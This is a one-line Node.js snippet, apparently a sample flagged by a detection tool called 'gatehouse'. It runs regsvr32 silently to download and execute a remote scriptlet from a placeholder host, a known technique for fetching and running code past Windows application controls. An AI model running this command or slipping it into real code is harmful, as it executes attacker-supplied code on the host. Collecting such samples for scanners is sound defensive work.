require("child_process").execSync("regsvr32 /s /i:https://c.example.invalid/a.sct scrobj.dll"); // gatehouse: flagged
